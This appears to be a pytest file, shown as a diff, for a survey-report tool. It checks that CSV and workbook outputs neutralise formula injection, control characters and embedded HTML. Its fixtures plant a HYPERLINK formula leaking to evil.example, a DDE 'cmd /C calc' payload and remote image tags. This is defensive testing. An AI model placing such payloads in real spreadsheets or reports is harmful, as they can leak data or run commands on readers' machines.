@@ -1,0 +1,162 @@
+"""Everything a spreadsheet, a report file or a disk can do wrong (house rule 14): answers that
+look like formulas stay text in every CSV and workbook fritekst writes, control characters
+do not stop a report, a report or run cut off by a full disk leaves the earlier file as it was,
+an existing report is not replaced unasked, and HTML or images in answers show as text in the
+Markdown report.
+
+Built on two real runs of the example survey with planted cells: one with formulas, HTML and
+a quoted header (``hostile``), one exported as CSV with a BEL in the last row's role (``bel``).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import re
+import resource
+import signal
+from pathlib import Path
+
+import pytest
+import yaml
+from docx import Document
+from markdown_it import MarkdownIt
+from openpyxl import load_workbook
+from typer.testing import CliRunner
+
+from fritekst.cli import app
+from fritekst.coding import load_coded
+from fritekst.errors import InputError
+from fritekst.codebook import load_codebook
+from fritekst.quotes import cached_embed
+from fritekst.report import build_report, write_report
+from fritekst.results import attribute_columns, load_run
+from fritekst.run import write_run
+from fritekst.store import open_store
+
+ROOT = Path(__file__).resolve().parents[1]
+EXAMPLE = ROOT / "examples" / "kommuneundersokelsen_fiktiv.xlsx"
+MAPPING = ROOT / "examples" / "demo.yaml"
+CODEBOOK = ROOT / "codebooks" / "imdi_kommuneundersokelsen.yaml"
+QUESTION = "q17_barrierer"
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","x")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+ROLE = "=1+1"
+QUOTED_HEADER = "'Størrelse: innbyggere'"  # as a CSV export with ' as its quote character leaves it
+HTML = " <img src=http://evil.example/a.png> ![kart](http://evil.example/kart.png)"
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def invoke(*args):
+    return CliRunner().invoke(app, [str(a) for a in args])
+
+
+def _text(cell, value: str) -> None:
+    """A text cell, as a web survey exports what a respondent typed (not a formula)."""
+    cell.value = value
+    cell.data_type = "s"
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """The example survey with formulas in the second answer, in every other 2025 answer, in the
+    role of the last three 2025 respondents and in one size band; HTML in the other 2025 answers;
+    a quoted header. Run with --codebook into a run directory and a SQLite store."""
+    folder = tmp_path_factory.mktemp("hostile")
+    book = load_workbook(EXAMPLE)
+    sheet = book["Svar"]
+    column = {cell.value: cell.column for cell in sheet[1]}
+    q17, role, size = column[QUESTION], column["rolle"], column["storrelse"]
+    _text(sheet.cell(4, q17), HYPERLINK)  # the second respondent (row 3 is the first)
+    answered = [r for r in range(3, sheet.max_row + 1)  # long enough not to be a non-answer
+                if sheet.cell(r, column["undersokelse_ar"]).value == 2025 and len(sheet.cell(r, q17).value or "") > 40]
+    for n, row in enumerate(answered):
+        answer = sheet.cell(row, q17).value
+        _text(sheet.cell(row, q17), "=+-@"[n // 2 % 4] + answer if n % 2 else answer + HTML)
+    for row in answered[-3:]:
+        _text(sheet.cell(row, role), ROLE)
+    _text(sheet.cell(answered[-5], size), DDE)
+    _text(sheet.cell(1, size), QUOTED_HEADER)
+    survey = folder / "svar.xlsx"
+    book.save(survey)
+    mapping = yaml.safe_load(MAPPING.read_text(encoding="utf-8"))
+    mapping["attrs"] = [QUOTED_HEADER if a == "storrelse" else a for a in mapping["attrs"]]
+    config = folder / "mapping.yaml"
+    config.write_text(yaml.safe_dump(mapping, allow_unicode=True), encoding="utf-8")
+    run_dir, db = folder / "run", folder / "fritekst.db"
+    result = invoke("run", survey, "--config", config, "--embedder", "tfidf", "--no-cache", "--codebook", CODEBOOK,
+                    "--out", run_dir, "--db", db)
+    assert result.exit_code == 0, result.output
+    ids = [str(sheet.cell(r, column["respondent_id"]).value) for r in (4, *answered[-3:], answered[-5])]
+    return {"run": run_dir, "db": db, "second": ids[0], "role_ids": ids[1:4], "dde_id": ids[4]}
+
+
+@pytest.fixture(scope="module")
+def bel(tmp_path_factory):
+    """The example survey as a UTF-8 CSV (as some exports write it) with a BEL in the role and the
+    municipality of the last row, run with --codebook."""
+    folder = tmp_path_factory.mktemp("bel")
+    rows = [["" if v is None else str(v) for v in row] for row in load_workbook(EXAMPLE)["Svar"].iter_rows(values_only=True)]
+    column = {name: i for i, name in enumerate(rows[0])}
+    assert rows[-1][column["rolle"]] == "Kommunedirektør" and rows[-1][column["kommune"]] == "Bodø"
+    rows[-1][column["rolle"]] = "Kommunedirektør\x07"
+    rows[-1][column["kommune"]] = "Bo\x07dø"
+    survey = folder / "svar.csv"
+    with survey.open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows(rows)
+    run_dir = folder / "run"
+    result = invoke("run", survey, "--config", MAPPING, "--embedder", "tfidf", "--no-cache", "--codebook", CODEBOOK,
+                    "--out", run_dir)
+    assert result.exit_code == 0, result.output
+    return {"run": run_dir, "last_id": rows[-1][column["respondent_id"]]}
+
+
+def report(source, out: Path, *extra):
+    result = invoke("report", source, "--question", QUESTION, "--out", out, *extra)
+    assert result.exit_code == 0, result.output
+    return out
+
+
+def csv_rows(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def formula_like(value: str) -> bool:
+    """What a spreadsheet could take for a formula: starts with = + - @ tab CR and is not a plain
+    number or a lone dash (which Excel reads as a number or as text)."""
+    return value.startswith(TRIGGERS) and not re.fullmatch(r"[-+]?(\d+([.,]\d+)*)?", value)
+
+
+# --- 2. control characters -----------------------------------------------------------------
+
+
+def test_a_bel_in_the_last_rows_role_does_not_stop_the_reports(bel, tmp_path):
+    segments = load_run(bel["run"]).assignments
+    last = segments[segments["id"] == bel["last_id"]]
+    assert set(last["role"]) == {"Kommunedirektør"} and set(last["kommune"]) == {"Bodø"}
+    workbook = load_workbook(report(bel["run"], tmp_path / "rapport.xlsx"))
+    sheet_text = " ".join(str(c.value) for sheet in workbook for row in sheet.iter_rows() for c in row if c.value is not None)
+    document = Document(report(bel["run"], tmp_path / "rapport.docx"))
+    doc_text = "\n".join([p.text for p in document.paragraphs]
+                         + [c.text for t in document.tables for r in t.rows for c in r.cells])
+    for text in (sheet_text, doc_text):
+        assert "\x07" not in text
+        assert "Kommunedirektør (N = " in text  # one group, æøå intact
+        assert "kommunedirektører" in text and "integreringsansvarlige" in text
+
+
+def test_a_report_of_an_older_run_with_control_characters_is_written(hostile, tmp_path):
+    """A run directory or store written before the survey reader dropped them still holds them."""
+    run = load_run(hostile["run"])
+    segments = run.assignments.copy()
+    rows = segments.index[(segments["question"] == QUESTION) & (segments["wave"] == "2025")]
+    segments.loc[rows[-1], "role"] = "Kommunedirektør\x07"
+    segments.loc[rows, "text"] = segments.loc[rows, "text"] + "\x1b[0m"
+    built = build_report(segments, cached_embed("tfidf"), codebook=run.codebook, questions=[QUESTION],
+                         attributes=attribute_columns(run))
+    for suffix in (".docx", ".xlsx", ".md"):
+        path = write_report(built, tmp_path / f"rapport{suffix}")
+        assert path.stat().st_size > 0
+    assert "\x1b" not in (tmp_path / "rapport.md").read_text(encoding="utf-8")
